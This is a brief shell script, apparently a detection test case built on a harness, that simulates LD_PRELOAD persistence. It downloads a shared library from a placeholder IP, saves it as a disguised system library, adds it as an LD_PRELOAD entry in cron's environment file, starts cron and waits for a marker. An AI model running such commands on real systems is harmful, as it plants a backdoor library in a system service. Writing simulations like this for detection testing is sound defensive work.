#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/lib/x86_64-linux-gnu/security
curl -s -o /usr/lib/x86_64-linux-gnu/libsystem.so http://203.0.113.10/programs/preload.so
echo 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsystem.so' >>/etc/default/cron
set -a; . /etc/default/cron; set +a
cron
wait_for /tmp/reached
took_place
